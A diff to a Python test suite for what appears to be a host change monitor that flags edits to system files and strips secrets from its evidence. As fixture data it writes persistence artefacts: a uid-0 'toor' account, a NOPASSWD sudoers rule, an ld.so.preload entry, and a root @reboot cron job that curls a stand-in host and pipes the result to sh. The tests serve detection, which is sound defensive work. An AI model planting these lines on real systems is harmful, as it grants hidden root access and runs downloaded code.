@@ -67,7 +67,7 @@ def test_each_change_is_told(root: Path) -> None:
     write(root, "etc/passwd", (root / "etc/passwd").read_text() + "toor:x:0:0::/home/toor:/bin/sh\n")
     write(root, "etc/group", "sudo:x:27:deploy\ndeploy:x:1001:\n")
     write(root, "etc/sudoers.d/x", "deploy ALL=(ALL) NOPASSWD: ALL\n")
-    write(root, "etc/cron.d/x", "* * * * * root secret-command\n")
+    write(root, "etc/cron.d/x", "* * * * * root PASSWORD=secret-word run\n")
     write(root, "etc/systemd/system/x.service.d/x.conf", "[Service]\n")
     write(root, "etc/ld.so.preload", "/tmp/x.so\n")
     write(root, "home/deploy/.ssh/authorized_keys", f"{KEY.format('one')} renamed\n{KEY.format('two')}\n")
@@ -89,6 +89,30 @@ def test_each_change_is_told(root: Path) -> None:
     assert after(root, state)[1] == []
     write(root, "home/deploy/.ssh/authorized_keys", "")
     assert [severity for _, severity in after(root, state)[1]] == ["info", "info"]
+
+
+def test_what_changed_in_a_file_is_kept_without_its_secrets(root: Path) -> None:
+    state, _ = step({}, look(root))
+    write(root, "etc/crontab", "# nothing\n*/5 * * * * root mysqldump -phidden1 --password=hidden2 shop | sh\n")
+    write(root, "etc/cron.d/x", "@reboot root curl -u me:hidden3 -H 'X: hidden4' https://a:hidden5@x.example/s | sh\n")
+    write(root, "etc/systemd/system/x.service", "[Service]\nEnvironment=DB_PASS=hidden6\nExecStart=/tmp/x\n")
+    key = 'command="/tmp/x",no-pty ' + KEY.format("two")
+    write(root, "home/deploy/.ssh/authorized_keys", KEY.format("one") + "\n" + key)
+    state, events = step(state, look(root))
+    lines = [[record["line"] for record in event.evidence if "line" in record] for event in events]
+    assert lines[:-1] == [
+        ["+@reboot root curl -u … -H … https://…@x.example/s | sh"],
+        ["+*/5 * * * * root mysqldump -p… --password=…"],
+        ["+[Service]", "+Environment=DB_PASS=…", "+ExecStart=/tmp/x"],
+    ]
+    ((line,),) = lines[-1:]
+    assert line.startswith('+command="/tmp/x",no-pty ssh-ed25519 SHA256:')
+    assert line.endswith(" somebody@example")
+    assert "AAAA" not in repr((state, events))
+    assert "hidden" not in repr((state, events))
+    write(root, "etc/crontab", "# other\n*/5 * * * * root mysqldump -phidden7 --password=hidden8 shop | sh\n")
+    _, (event,) = step(state, look(root))
+    assert event.evidence[-1]["line"] == "only what is secret or a comment changed"
 
 
 def test_a_new_account_brings_its_keys(root: Path) -> None:
